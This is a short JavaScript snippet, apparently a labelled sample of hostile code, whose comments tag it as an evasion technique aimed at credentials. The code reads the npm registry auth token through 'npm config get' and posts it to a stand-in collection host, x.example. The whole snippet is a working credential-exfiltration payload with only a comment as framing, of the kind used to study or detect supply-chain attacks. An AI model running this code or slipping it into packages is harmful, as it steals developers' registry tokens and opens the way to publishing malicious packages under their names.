// evasion: the registry token is read through `npm config get` (an ordinary tool) and posted
// grade: medium; does: credentials
const { execFileSync } = require("child_process");
const token = execFileSync("npm", ["config", "get", "//registry.npmjs.org/:_authToken"], {
  encoding: "utf8",
}).trim();
fetch("https://x.example/collect", { method: "POST", body: token });
